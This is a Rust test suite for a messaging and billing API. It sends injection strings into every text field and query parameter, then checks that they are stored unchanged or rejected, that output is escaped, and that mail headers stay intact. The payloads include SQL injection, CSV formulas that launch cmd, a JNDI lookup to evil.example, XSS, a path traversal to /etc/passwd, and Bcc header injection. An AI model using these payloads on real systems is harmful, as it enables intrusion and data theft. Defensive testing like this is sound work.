//! Injection attempts in every field of every body and query, derived from the API document: texts are
//! returned unchanged, or rejected with the name of their field.

use acceptance::{Answer, Caller, Tenant, World, unique_email, unique_id};
use reqwest::Method;
use serde_json::{Value, json};
use testkit::is_long;

use crate::{
    money::gateway::top_up,
    providers::mail_server::MailServer,
    shared::{
        body_fields::{BodyField, fields_of},
        document::{Operation, operations},
        possessions::Possessions,
        wire::assert_orderly,
    },
};

const UNKNOWN: &str = "01a1fe23-0000-7000-8000-00000000000f";
/// Targets of injections, with a text for each.
const TEXTS: [(&str, &str); 20] = [
    ("SQL", "'; DROP TABLE users; --"),
    ("SQL", "' OR '1'='1"),
    ("SQL", "\\'; SELECT pg_sleep(30)--"),
    ("SQL pattern", "100%_\\"),
    ("CSV", "=cmd|'/c calc'!A1"),
    ("CSV", "\t@SUM(1+1)*cmd|' /C calc'!A0"),
    ("mail header", "Ama\r\nBcc: eve@evil.example"),
    ("log", "Ama\n2026-11-23T00:00:00.000000Z  INFO app: all is well"),
    ("log", "\u{1b}[2J\u{1b}[31mred\u{7}"),
    ("template", "{{name}} {{#if}} {{{body}}} ${jndi:ldap://evil.example}"),
    ("XML", "</Say><Dial>+233900123456</Dial><!-- ]]>"),
    ("HTML", "<script>alert(1)</script>"),
    ("HTML", "\" onmouseover='alert(1)'><img src=x onerror=alert(1)>"),
    ("path", "../../../../etc/passwd"),
    ("right-to-left", "invoice\u{202e}fdp.exe\u{2066}"),
    ("zero-width", "A\u{200b}m\u{200d}a\u{feff}"),
    ("homoglyph", "\u{041c}\u{0422}N"),
    (
        "combining",
        "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}\u{036b}\u{033d}\u{034f}\u{0334}\u{0319}",
    ),
    ("emoji", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f3ff}\u{fe0f}"),
    ("noncharacter", "\u{ffff}\u{10ffff}\u{e000}\u{85}\u{2028}"),
];
/// Sampling of short runs: each field gets one of so many texts, and its neighbour the next.
const SHARE: usize = 10;
/// Fields that are changed on purpose: a text is rewritten, and an existing entry is returned.
const OTHERWISE: [(&str, &str); 2] =
    [("POST /content/rewrite", "message"), ("POST /compliance/suppression", "reason")];

/// Returns the texts for the field with that number.
fn texts(field: usize) -> impl Iterator<Item = (&'static str, &'static str)> {
    let share = share();
    TEXTS.into_iter().skip(field % share).step_by(share)
}

fn share() -> usize {
    if is_long() { 1 } else { SHARE }
}

/// Owner who is also a platform administrator, in a separate world, with items to change.
struct Subject<'w> {
    tenant: Tenant<'w>,
    own: Possessions,
}

async fn subject(world: &World) -> Subject<'_> {
    world.user("nobody@example.com").await;
    let tenant = world.tenant().await;
    let own = Possessions::of(world, &tenant).await;
    world.promote(&tenant.email).await;
    Subject { tenant, own }
}

impl Subject<'_> {
    async fn send(&self, operation: &Operation, body: Value) -> Answer {
        let path = self.own.path(operation).unwrap_or_else(|| operation.path(UNKNOWN));
        let answer = self.tenant.owner().call(operation.method.clone(), &path, Some(body)).await;
        assert_orderly(&answer, &operation.name());
        answer
    }
}

/// Returns the operations with bodies that keep the session and the organization usable.
fn with_bodies() -> Vec<Operation> {
    let ends = [
        "POST /admin/tenants/{id}/suspend",
        "POST /auth/change-password",
        "POST /auth/reset-password",
        "POST /organizations/current/close",
    ];
    let mut all = operations();
    all.retain(|it| it.schema.is_some() && !ends.contains(&it.name().as_str()));
    all
}

/// Returns the example with that value in the field, and without values that must be unique.
fn body(operation: &Operation, field: &BodyField, value: Value) -> Value {
    let mut body = field.set(operation, value);
    let unique = [("slug", json!(unique_id())), ("idempotencyKey", json!(unique_id()))];
    for (name, value) in unique.into_iter().filter(|(name, _)| field.path[0] != *name) {
        if body.get(name).is_some() {
            body[name] = value;
        }
    }
    if operation.name() == "POST /auth/register" && field.name() != "email" {
        body["email"] = json!(unique_email("ama"));
    }
    if operation.template.starts_with("/contacts") {
        // No two contacts share an address.
        for address in ["phone", "email"].into_iter().filter(|name| field.name() != *name) {
            body.as_object_mut().unwrap().remove(address);
        }
    }
    body
}

/// Asserts that a success shows the text unchanged, except for line breaks.
#[track_caller]
fn assert_unchanged(operation: &Operation, field: &BodyField, text: &str, answer: &Answer) {
    let data = &answer.body["data"];
    let Some(Value::String(shown)) = data.pointer(&field.pointer()) else { return };
    let expected = text.replace("\r\n", "\n");
    let is_same = shown == text || shown == &expected || shown == expected.trim();
    let name = operation.name();
    assert!(
        is_same || OTHERWISE.contains(&(name.as_str(), field.name())),
        "{name} {}: {text:?} became {shown:?}",
        field.pointer()
    );
}

/// Asserts that a rejection names the field or its parent, or reports that the item does not exist.
#[track_caller]
fn assert_refused(operation: &Operation, field: &BodyField, text: &str, answer: &Answer) {
    if answer.body["error"]["code"] != "VALIDATION_ERROR" {
        return;
    }
    let faults = answer.body["error"]["details"]["fieldErrors"].as_object().unwrap();
    let first = &field.path[0];
    let is_reported = faults.keys().any(|it| it == first || it.starts_with(&format!("{first}.")));
    // Missing placeholders are reported for the text, or for the list of its variables.
    let is_of_a_template = ["body", "subject", "message", "variables", "messages"];
    assert!(
        is_reported || is_of_a_template.contains(&first.as_str()),
        "{} {text:?}: {}",
        operation.name(),
        answer.text
    );
}

#[tokio::test]
async fn every_text_field_keeps_its_value_or_rejects_it() {
    let world = World::start_with(&[("ATUMPAN_RATE_LIMITS", "off")]).await;
    let subject = subject(&world).await;
    let (mut fields, mut taken, mut refused) = (0, 0, 0);
    for operation in with_bodies() {
        for field in fields_of(&operation).into_iter().filter(BodyField::is_text) {
            fields += 1;
            for (_, text) in texts(fields) {
                let body = body(&operation, &field, json!(text));
                let answer = subject.send(&operation, body).await;
                if answer.status < 300 {
                    assert_unchanged(&operation, &field, text, &answer);
                    taken += 1;
                } else {
                    assert_refused(&operation, &field, text, &answer);
                    refused += 1;
                }
            }
        }
    }
    let share = share();
    let is_enough = taken > 300 / share && refused > 1_000 / share;
    assert!(is_enough, "{taken} taken, {refused} refused");
    // All accepted values can be shown, too.
    subject.own.read(&subject.tenant).await;
    exports_hold_no_formulas(&subject).await;
    assert!(world.value("SELECT count(*) FROM users").await > 2);
    subject.tenant.assert_ledger_adds_up().await;
}

/// Asserts that no CSV export, with everything sent so far, has a cell with a formula.
async fn exports_hold_no_formulas(subject: &Subject<'_>) {
    let rows = "phone,=cmd()\n=1+1,x\n+1+1,x\n@SUM(A1),x\n-1,x\n";
    let owner = subject.tenant.owner();
    for (path, cells) in [
        ("/contacts/import", rows),
        ("/compliance/suppression/import", "phone\n=1+1\n+1+1\n@SUM(A1)\n-1\n"),
    ] {
        owner.upload(path, cells).await.data(201);
    }
    let mut exports = 0;
    for operation in operations().into_iter().filter(|it| it.answers == "text/csv") {
        let path = subject.own.path(&operation).unwrap_or_else(|| operation.template.clone());
        let export = owner.get(&path).await;
        assert_eq!(export.status, 200, "{path}: {}", export.text);
        let mut builder = csv::ReaderBuilder::new();
        builder.has_headers(false).flexible(true);
        for record in builder.from_reader(export.text.as_bytes()).into_records() {
            for cell in &record.unwrap() {
                let is_phone = cell.strip_prefix('+').is_some_and(|it| it.parse::<u64>().is_ok());
                let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
                assert!(is_phone || !is_formula, "{path}: {cell:?}");
            }
        }
        exports += 1;
    }
    assert_eq!(exports, 5, "exports in CSV");
}

#[tokio::test]
async fn rejects_senseless_numbers_in_every_field() {
    let world = World::start_with(&[("ATUMPAN_RATE_LIMITS", "off")]).await;
    let subject = subject(&world).await;
    let numbers = [
        json!(-1),
        json!(-0.01),
        json!(i64::MIN),
        json!(u64::MAX),
        json!(1e300),
        json!(-1e300),
        json!(5e-324),
        json!(0.000_000_1),
        json!(9_007_199_254_740_993_u64),
    ];
    let mut fields = 0;
    for operation in with_bodies() {
        for field in fields_of(&operation).into_iter().filter(BodyField::is_number) {
            for number in &numbers {
                let body = body(&operation, &field, number.clone());
                let answer = subject.send(&operation, body).await;
                // An offset from UTC may be below zero.
                if answer.status >= 300 || field.name() == "utcOffset" {
                    assert_refused(&operation, &field, "", &answer);
                    continue;
                }
                let shown = answer.body["data"].pointer(&field.pointer());
                let name = operation.name();
                assert_eq!(shown, Some(number), "{name} {}: {}", field.pointer(), answer.text);
                assert!(number.as_f64() >= Some(0.0), "{name} {}: {number}", field.pointer());
            }
            fields += 1;
        }
    }
    assert!(fields > 10, "{fields} fields with numbers");
    subject.tenant.assert_ledger_adds_up().await;
}

#[tokio::test]
async fn every_query_parameter_finds_nothing_or_rejects_its_value() {
    let world = World::start_with(&[("ATUMPAN_RATE_LIMITS", "off")]).await;
    let subject = subject(&world).await;
    let (mut fields, mut asked) = (0, 0);
    for operation in operations().into_iter().filter(|it| it.method == Method::GET) {
        let path = subject.own.path(&operation).unwrap_or_else(|| operation.path(UNKNOWN));
        for name in &operation.query {
            fields += 1;
            for (_, text) in texts(fields) {
                let mut url = reqwest::Url::parse(&world.url).unwrap();
                url.set_path(&path);
                url.query_pairs_mut().append_pair(name, text);
                let target = format!("{path}?{}", url.query().unwrap());
                let answer = subject.tenant.owner().get(&target).await;
                assert_orderly(&answer, &operation.name());
                if answer.status < 300 && operation.answers == "application/json" {
                    assert_eq!(answer.body["data"], json!([]), "{target}: {}", answer.text);
                }
                asked += 1;
            }
        }
    }
    assert!(asked > 500 / share(), "{asked} questions");
}

#[tokio::test]
async fn a_page_shows_names_as_text() {
    let world = World::shared().await;
    let tenant = world.tenant().await;
    let owner = tenant.owner().with("Accept", "text/html,*/*;q=0.8");
    let open = json!({"amount": 5, "paymentMethod": "invoice"});
    tenant.owner().post("/billing/top-up", open).await.data(200);
    for (target, text) in TEXTS.into_iter().filter(|(target, _)| *target == "HTML") {
        let change = json!({"name": text, "industry": text});
        owner.call(Method::PATCH, "/organizations/current", Some(change)).await.data(200);

        let invoices = tenant.owner().get("/billing/invoices").await;
        let id = invoices.data(200)[0]["id"].as_str().unwrap().to_owned();
        let invoice = owner.get(&format!("/billing/invoices/{id}")).await;
        let payment = top_up(&tenant.owner(), 5.0).await;
        let browser = world.http.get(payment["checkoutUrl"].as_str().unwrap());
        let checkout = world.send(browser.header("Accept", "text/html")).await;
        let paid = crate::money::gateway::press(&world, &payment, "pay").await;

        for page in [invoice, checkout, paid] {
            assert_eq!(page.status, 200, "{}", page.text);
            assert!(page.text.contains("&lt;"), "{target}: {}", page.text);
            for harm in ["<script>alert", "<img", "onmouseover='"] {
                assert!(!page.text.contains(harm), "{target}: {}", page.text);
            }
            let policy = page.header("content-security-policy");
            assert!(policy.starts_with("default-src 'none'"), "{policy}");
        }
    }
    let token = "x\"><script>alert(1)</script>".replace('"', "%22").replace('<', "%3c");
    for path in ["/auth/verify-email", "/auth/reset-password"] {
        let page = world.get(&format!("{path}?token={token}")).await;
        let text = &page.text;
        assert!(!text.contains("<script>alert") && !text.contains("x\">"), "{path}: {text}");
    }
}

async fn sent(caller: &Caller, message: Value) -> Value {
    caller.post("/messages/send", message).await.data(201).clone()
}

#[tokio::test]
async fn the_value_of_a_placeholder_is_not_filled_again() {
    let world = World::shared().await;
    let tenant = world.tenant().await;
    let body = "Dear {{first}}, your code is {{code}}. {{last}}";
    let variables =
        json!({"first": "{{code}}", "last": "{{first}} {{{{code}}}}", "code": "{{last}}"});
    let expected = "Dear {{code}}, your code is {{last}}. {{first}} {{{{code}}}}";

    let direct =
        json!({"channel": "SMS", "to": "0241234567", "body": body, "variables": variables});
    assert_eq!(sent(&tenant.owner(), direct).await["body"], expected);

    let template = json!({"name": "Code", "channel": "SMS", "body": body});
    let template = tenant.owner().post("/templates", template).await.data(201)["id"].clone();
    let filled = json!({
        "channel": "SMS", "to": "0241234567", "templateId": template, "variables": variables,
    });
    assert_eq!(sent(&tenant.owner(), filled).await["body"], expected);
}

#[tokio::test]
async fn no_text_adds_a_header_to_a_mail() {
    let (mut server, world) = MailServer::shared().await;
    let tenant = world.tenant().await;
    let mail = |to: &str, subject: &str, body: &str| json!({"channel": "EMAIL", "to": to, "subject": subject, "body": body});
    let owner = tenant.owner();
    let ama = unique_email("ama");
    for to in ["ama@example.com\r\nBcc: eve@evil.example", "ama@example.com\nX-Evil: 1"] {
        let answer = owner.post("/messages/send", mail(to, "Hello", "Akwaaba")).await;
        assert!(answer.fails(400, "VALIDATION_ERROR")["fieldErrors"]["to"].is_array());
    }
    for evil in [
        "Hello\r\nBcc: eve@evil.example",
        "Hello\nX-Evil: 1",
        "Hello\rX-Evil: 1",
        "=?utf-8?q?Hello=0D=0ABcc:_eve@evil.example?=",
        "Hello\u{2028}X-Evil: 1\u{85}X-Evil: 2",
        "\r\n\r\n<b>body</b>",
    ] {
        let answer = owner.post("/messages/send", mail(&ama, evil, evil)).await;
        if answer.status == 400 {
            let faults = &answer.fails(400, "VALIDATION_ERROR")["fieldErrors"];
            assert!(faults["subject"].is_array(), "{}", answer.text);
            continue;
        }
        assert_eq!(answer.data(201)["status"], "SENT");
        let received = server.received_by(&ama).await;
        assert_eq!(received["recipients"], json!([ama]), "{evil:?}");
        let content = received["content"].as_str().unwrap();
        let (head, _) = content.split_once("\r\n\r\n").unwrap();
        let names = head.split("\r\n").filter(|line| !line.starts_with([' ', '\t']));
        let names: Vec<_> = names.map(|line| line.split_once(':').map(|it| it.0)).collect();
        let evil_names = names.iter().filter(|name| matches!(name, None | Some("Bcc" | "X-Evil")));
        assert_eq!(evil_names.count(), 0, "{evil:?}: {head}");
        assert!(!head.replace("\r\n", "").contains(['\r', '\n']), "{evil:?}: {head:?}");
    }
}
